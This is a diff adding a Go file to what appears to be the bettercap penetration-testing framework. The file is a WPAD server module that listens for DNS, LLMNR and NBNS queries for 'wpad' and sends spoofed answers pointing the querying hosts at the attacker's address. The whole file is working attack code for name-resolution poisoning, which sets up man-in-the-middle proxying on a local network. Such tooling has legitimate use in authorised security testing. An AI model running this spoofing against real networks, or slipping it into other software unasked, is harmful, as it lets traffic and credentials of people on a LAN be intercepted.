@@ -0,0 +1,138 @@
+package wpad_server
+
+import (
+	"bytes"
+	"fmt"
+	"net"
+	"strings"
+
+	"github.com/bettercap/bettercap/packets"
+
+	"github.com/google/gopacket"
+	"github.com/google/gopacket/layers"
+
+	"github.com/evilsocket/islazy/tui"
+)
+
+const dnsPort = 53
+
+func (mod *WPADServer) bpfFilter() string {
+	ports := []string{}
+	if mod.resolve[ResolveDNS] {
+		ports = append(ports, fmt.Sprintf("dst port %d", dnsPort))
+	}
+	if mod.resolve[ResolveLLMNR] {
+		ports = append(ports, fmt.Sprintf("dst port %d", packets.LLMNRPort))
+	}
+	if mod.resolve[ResolveNBNS] {
+		ports = append(ports, fmt.Sprintf("dst port %d", packets.NBNSPort))
+	}
+	return fmt.Sprintf("udp and (%s)", strings.Join(ports, " or "))
+}
+
+// isWPAD returns true for both wpad and wpad.<search domain>.
+func isWPAD(name string) bool {
+	name = strings.ToLower(strings.TrimSuffix(name, "."))
+	return name == "wpad" || strings.HasPrefix(name, "wpad.")
+}
+
+func (mod *WPADServer) answer(proto string, name string, eth *layers.Ethernet, udp *layers.UDP, from net.IP, to net.IP, payload []byte) {
+	err, raw := packets.NewUDPPacket(from, mod.Session.Interface.HW, to, eth.SrcMAC, int(udp.DstPort), int(udp.SrcPort), payload)
+	if err != nil {
+		mod.Error("error creating %s reply: %v", proto, err)
+		return
+	} else if err = mod.Session.Queue.Send(raw); err != nil {
+		mod.Error("error sending %s reply: %v", proto, err)
+		return
+	}
+
+	who := to.String()
+	if e := mod.Session.Lan.GetByIp(who); e != nil {
+		who = e.String()
+	}
+
+	mod.Info("sent spoofed %s answer for %s to %s.", proto, tui.Red(name), tui.Bold(who))
+}
+
+func (mod *WPADServer) onNameQuery(proto string, eth *layers.Ethernet, udp *layers.UDP, srcIP net.IP, dstIP net.IP) {
+	req := &layers.DNS{}
+	if err := req.DecodeFromBytes(udp.Payload, gopacket.NilDecodeFeedback); err != nil {
+		return
+	} else if req.QR || req.OpCode != layers.DNSOpCodeQuery || len(req.Questions) == 0 {
+		return
+	}
+
+	name := string(req.Questions[0].Name)
+	if !isWPAD(name) {
+		return
+	}
+
+	// regular dns answers must come from the server that has been queried,
+	// llmnr ones from us
+	from := dstIP
+	if proto == ResolveLLMNR {
+		if from = mod.Session.Interface.IP; srcIP.To4() == nil {
+			from = mod.Session.Interface.IPv6
+		}
+	}
+	if from == nil {
+		return
+	}
+
+	if err, payload := packets.NameQueryReply(req, mod.address, nil, mod.ttl, layers.DNSClassIN); err != nil {
+		mod.Error("error creating %s reply: %v", proto, err)
+	} else if payload != nil {
+		mod.answer(proto, name, eth, udp, from, srcIP, payload)
+	}
+}
+
+func (mod *WPADServer) onNBNSQuery(eth *layers.Ethernet, udp *layers.UDP, srcIP net.IP) {
+	if q, ok := packets.NBNSParseNameQuery(udp.Payload); ok && strings.ToLower(q.Name) == "wpad" && srcIP.To4() != nil {
+		mod.answer(ResolveNBNS, q.Name, eth, udp, mod.Session.Interface.IP, srcIP, packets.NBNSNameQueryResponse(q, mod.address, mod.ttl))
+	}
+}
+
+func (mod *WPADServer) onPacket(pkt gopacket.Packet) {
+	eth, ok := pkt.Layer(layers.LayerTypeEthernet).(*layers.Ethernet)
+	if !ok || bytes.Equal(eth.SrcMAC, mod.Session.Interface.HW) {
+		return
+	}
+
+	udp, ok := pkt.Layer(layers.LayerTypeUDP).(*layers.UDP)
+	if !ok {
+		return
+	}
+
+	var srcIP, dstIP net.IP
+	if ip4, ok := pkt.Layer(layers.LayerTypeIPv4).(*layers.IPv4); ok {
+		srcIP, dstIP = ip4.SrcIP, ip4.DstIP
+	} else if ip6, ok := pkt.Layer(layers.LayerTypeIPv6).(*layers.IPv6); ok {
+		srcIP, dstIP = ip6.SrcIP, ip6.DstIP
+	} else {
+		return
+	}
+
+	switch {
+	case udp.DstPort == dnsPort && mod.resolve[ResolveDNS]:
+		// only queries routed through us by the spoofers or sent to us
+		if bytes.Equal(eth.DstMAC, mod.Session.Interface.HW) {
+			mod.onNameQuery(ResolveDNS, eth, udp, srcIP, dstIP)
+		}
+	case udp.DstPort == packets.LLMNRPort && mod.resolve[ResolveLLMNR]:
+		mod.onNameQuery(ResolveLLMNR, eth, udp, srcIP, dstIP)
+	case udp.DstPort == packets.NBNSPort && mod.resolve[ResolveNBNS]:
+		mod.onNBNSQuery(eth, udp, srcIP)
+	}
+}
+
+func (mod *WPADServer) resolver() {
+	defer mod.waitGroup.Done()
+
+	for packet := range mod.pktSourceChan {
+		if !mod.Running() {
+			break
+		}
+
+		mod.onPacket(packet)
+	}
+}